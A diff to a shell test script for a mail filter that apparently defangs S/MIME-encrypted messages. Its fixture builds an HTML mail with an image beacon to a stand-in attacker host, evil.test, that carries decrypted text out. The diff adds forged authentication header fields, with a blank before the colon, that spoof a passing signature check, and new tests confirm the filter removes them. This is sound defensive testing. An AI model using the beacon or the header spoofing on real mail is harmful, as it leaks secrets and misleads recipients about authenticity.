@@ -15,9 +15,11 @@ set_up() {
         pair_user example alice && pair_user partner bob && pair_start
 }
 
-# encrypted FILE USER@DOMAIN CERTIFICATE: a page that loads a picture.
+# encrypted FILE USER@DOMAIN CERTIFICATE: a page that loads a picture, with forged fields in front, whose names
+# have a blank behind them (RFC 5322 section 4.5).
 encrypted() {
     {
+        printf 'X-Smimed-Signature : valid\nAuthentication-Results : mail.%s; smime=pass\n' "${2#*@}"
         printf 'From: someone@else.test\nTo: %s\nSubject: [signiert] hello\nMIME-Version: 1.0\n' "$2"
         printf 'Content-Type: text/html\n\n<p>%s<img src="http://evil.test/?%s"></p>\n' \
             "the secret" "the secret" | openssl cms -encrypt -aes256 "$3"
@@ -48,6 +50,8 @@ defanged() {
         'unauthenticated, defanged'
     ok 'defang: so do tags, and no forged one' equals "$(subject "$MAIL")" \
         '[verschlüsselt] [unbeglaubigt] hello'
+    ok 'defang: and no forged field' lacks "$MAIL" 'smime=pass'
+    ok 'defang: of no name' equals "$(field "$MAIL" X-Smimed-Signature)" none
     ok 'defang: and the summary' contains "$MAIL" 'has checked this message'
 }
 
